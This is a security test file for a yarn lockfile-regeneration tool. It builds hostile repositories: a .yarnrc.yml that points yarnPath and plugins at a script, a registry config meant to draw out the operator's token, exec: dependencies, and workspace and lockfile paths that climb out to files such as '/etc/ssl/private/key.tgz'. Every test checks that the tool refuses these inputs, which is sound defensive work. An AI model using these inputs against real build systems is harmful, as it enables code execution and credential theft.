// A hostile repository against the yarn run: its .yarnrc.yml, package.json and yarn.lock as an attacker with push access writes them.
import { existsSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ArtifactContext } from '../../src/artifacts/types.js';
import { yarnArtifacts } from '../../src/artifacts/yarn/index.js';
import type { PlannedUpdate } from '../../src/engine/types.js';
import type { JsArtifactFacts } from '../../src/managers/npm/js-lockfile.js';
import { parseYarnLock, yarnLockfile } from '../../src/managers/yarn/index.js';
import { silentLogger } from '../../src/types.js';
import { startLoopbackServer, type LoopbackServer } from '../http/loopback-server.js';
import { tempDir } from '../support/temp-dir.js';

const TOKEN = 'operator-token-for-the-real-registry-only';
let attacker: LoopbackServer;
/** An internal service on a private address the operator did not list. */
let internal: LoopbackServer;

const json = (value: unknown) => JSON.stringify(value, null, 2) + '\n';
const berryLock = `__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"lib@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "lib@npm:1.0.0"\n  checksum: 10c0/abc\n  languageName: node\n  linkType: hard\n`;

function run(files: Record<string, string>, insecure: string[]) {
  const repo = new Map(Object.entries({ 'package.json': json({ name: 'app', packageManager: 'yarn@4.18.1', dependencies: { lib: '^1.0.0' } }), 'yarn.lock': berryLock, ...files }));
  const artifact: JsArtifactFacts = {
    tool: 'yarn', root: '', lockFile: 'yarn.lock', packageFiles: ['package.json'], configFiles: repo.has('.yarnrc.yml') ? ['.yarnrc.yml'] : [],
    packageManager: 'yarn@4.18.1', packageName: 'lib', key: 'lib', newVersion: '1.1.0', lockfileOnly: true,
  };
  const update: PlannedUpdate = { manager: 'npm', file: 'package.json', line: 1, depName: 'lib', from: '1.0.0', to: '1.1.0', updateType: 'minor', newValue: null, newDigest: null, depIndex: 0, extra: { artifact } };
  // The operator's token belongs to a registry that is neither server here.
  const ctx: ArtifactContext = { readFile: async (p) => repo.get(p), settings: { FRESHEN_NPMRC: `//registry.example.test/:_authToken=${TOKEN}\n` }, insecureRegistries: insecure, log: silentLogger, timeoutMs: 60_000 };
  return yarnArtifacts.regenerate('yarn.lock', [update], new Map(), ctx);
}

beforeAll(async () => {
  attacker = await startLoopbackServer((_req, res) => void res.writeHead(404).end('{}'));
  internal = await startLoopbackServer((_req, res) => void res.writeHead(404).end('{}'));
});
afterAll(async () => {
  await attacker?.close();
  await internal?.close();
});

describe('a repository .yarnrc.yml', () => {
  it('yarnPath and plugins are never run; a token meant for another host is never sent to the registry it names', async () => {
    const marker = join(tempDir('freshen-yarn-marker-'), 'ran');
    const script = join(tempDir('freshen-yarn-script-'), 'evil.cjs');
    writeFileSync(script, `require('fs').writeFileSync(${JSON.stringify(marker)}, 'yes');\n`);
    const yarnrc = `yarnPath: ${JSON.stringify(script)}\nplugins:\n  - path: ${JSON.stringify(script)}\nnpmRegistryServer: "${attacker.url}"\nnpmAuthToken: "\${FRESHEN_NPMRC}"\n`;
    const outcome = await run({ '.yarnrc.yml': yarnrc }, [attacker.host]);
    expect(outcome.files).toBeUndefined();
    expect(outcome.error).toMatchObject({ file: 'yarn.lock' });
    expect(existsSync(marker), outcome.error!.message).toBe(false);
    // yarn did ask the repository's registry (so the test can fail), without any credential.
    expect(attacker.requests.length).toBeGreaterThan(0);
    for (const request of attacker.requests) expect(JSON.stringify(request.headers)).not.toContain(TOKEN);
    expect(attacker.requests.every((r) => r.headers.authorization === undefined)).toBe(true);
    expect(outcome.error!.message).not.toContain(TOKEN);
  }, 120_000);

  it('a registry at a private address the operator did not list is never reached, through yarn either', async () => {
    const outcome = await run({ '.yarnrc.yml': `npmRegistryServer: "${internal.url}"\n` }, []);
    expect(outcome.files).toBeUndefined();
    expect(outcome.error!.file).toBe('yarn.lock');
    expect(internal.requests).toEqual([]);
  }, 120_000);

  it('an exec: dependency is refused before yarn starts, at its line', async () => {
    const pkg = json({ name: 'app', packageManager: 'yarn@4.18.1', dependencies: { lib: '^1.0.0', gen: 'exec:./gen.js' } });
    const outcome = await run({ 'package.json': pkg, '.yarnrc.yml': `npmRegistryServer: "${attacker.url}"\n` }, [attacker.host]);
    expect(outcome.error).toMatchObject({ file: 'package.json', line: 6, depName: 'gen' });
    expect(outcome.error!.message).toMatch(/exec: dependency.*left as it is/);
  }, 60_000);
});

describe('a hostile package.json workspaces field', () => {
  it.each([
    ['a relative pattern climbing out of the copy', (dir: string) => `../../${basename(dir)}`],
    ['an absolute pattern', (dir: string) => dir],
    ['a pattern climbing out after a folder', (dir: string) => `packages/../../../${basename(dir)}`],
  ])('%s is refused at its line before yarn starts (yarn would read the worker\'s disk)', async (_what, pattern) => {
    const outside = tempDir('freshen-yarn-outside-');
    writeFileSync(join(outside, 'package.json'), json({ name: 'stolen-secret', version: '6.6.6' }));
    const pkg = json({ name: 'app', packageManager: 'yarn@4.18.1', workspaces: [pattern(outside)], dependencies: { lib: '^1.0.0' } });
    const outcome = await run({ 'package.json': pkg, '.yarnrc.yml': `npmRegistryServer: "${attacker.url}"\n` }, [attacker.host]);
    expect(outcome.files).toBeUndefined();
    expect(outcome.error).toMatchObject({ file: 'package.json', line: 5, message: expect.stringContaining('outside the project') });
    expect(outcome.error!.message).not.toContain('stolen-secret');
  }, 60_000);
});

describe('a hostile classic yarn.lock', () => {
  it.each([
    ['an absolute path', '/etc/ssl/private/key.tgz'],
    ['a path climbing out of the copy', '../../../../home/worker/other.tgz'],
    ['a Windows drive path', 'C:\\secrets\\x.tgz'],
  ])('a resolved tarball at %s is refused at its line (yarn 1 reads such a path from the disk)', async (_what, resolved) => {
    // `other` is not updated: yarn 1 would fetch it from its resolved path as locked.
    const classicLock = `# yarn lockfile v1\n\n\nlib@^1.0.0:\n  version "1.0.0"\n  resolved "${attacker.url}/lib/-/lib-1.0.0.tgz#abc"\n\nother@^2.0.0:\n  version "2.0.0"\n  resolved ${JSON.stringify(`${resolved}#abc`)}\n`;
    const pkg = json({ name: 'app', dependencies: { lib: '^1.0.0', other: '^2.0.0' } });
    const repo = new Map([['package.json', pkg], ['yarn.lock', classicLock]]);
    const artifact: JsArtifactFacts = { tool: 'yarn', root: '', lockFile: 'yarn.lock', packageFiles: ['package.json'], configFiles: [], packageName: 'lib', key: 'lib', newVersion: '1.1.0', lockfileOnly: true };
    const update: PlannedUpdate = { manager: 'npm', file: 'package.json', line: 1, depName: 'lib', from: '1.0.0', to: '1.1.0', updateType: 'minor', newValue: null, newDigest: null, depIndex: 0, extra: { artifact } };
    const ctx: ArtifactContext = { readFile: async (p) => repo.get(p), settings: { FRESHEN_NPMRC: `registry=${attacker.url}/\n` }, insecureRegistries: [attacker.host], log: silentLogger, timeoutMs: 60_000 };
    const outcome = await yarnArtifacts.regenerate('yarn.lock', [update], new Map(), ctx);
    expect(outcome.files).toBeUndefined();
    expect(outcome.error).toMatchObject({ file: 'yarn.lock', line: 8, depName: 'other@^2.0.0', message: expect.stringContaining('outside the project') });
  }, 60_000);
});

describe('a pathological yarn.lock', () => {
  it('a huge lockfile and a huge key line read in linear time', () => {
    const entries = Array.from({ length: 100_000 }, (_, i) => `"p${i}@npm:^1.0.0":\n  version: 1.0.${i}\n  resolution: "p${i}@npm:1.0.${i}"\n  dependencies:\n    x: "npm:^1"\n`).join('\n');
    const big = `__metadata:\n  version: 8\n\n${entries}`;
    let started = performance.now();
    expect(yarnLockfile.lockedVersion(big, 'yarn.lock', 'package.json', 'p99999', '^1.0.0')).toBe('1.0.99999');
    expect(performance.now() - started).toBeLessThan(10_000);

    const key = Array.from({ length: 500_000 }, (_, i) => `a@^${i}.0.0`).join(', ');
    const classic = `${key}:\n  version "1.0.0"\n`;
    started = performance.now();
    expect(parseYarnLock(classic).entries[0]!.descriptors).toHaveLength(500_000);
    expect(performance.now() - started).toBeLessThan(10_000);
    // Unterminated quotes and backslash runs fail at once, with the line.
    const quotes = `"${'\\\\'.repeat(1_000_000)}:\n  version "1"\n`;
    started = performance.now();
    expect(() => parseYarnLock(quotes)).toThrow(/yarn\.lock line 1: unterminated quote/);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('a broken lockfile is an error with its line', () => {
    expect(() => yarnLockfile.lockedVersion('a@^1:\n  version "1.0.0"\n\tbad\n', 'yarn.lock', 'package.json', 'a', '^1')).toThrow(/yarn\.lock line 3/);
    expect(() => yarnLockfile.lockedVersion('a@^1:\n  resolved "x"\nb@^2:\n  version "2.0.0"\n', 'sub/yarn.lock', 'package.json', 'b', '^2')).toThrow(/sub\/yarn\.lock line 1: the entry a@\^1 has no version/);
  });
});
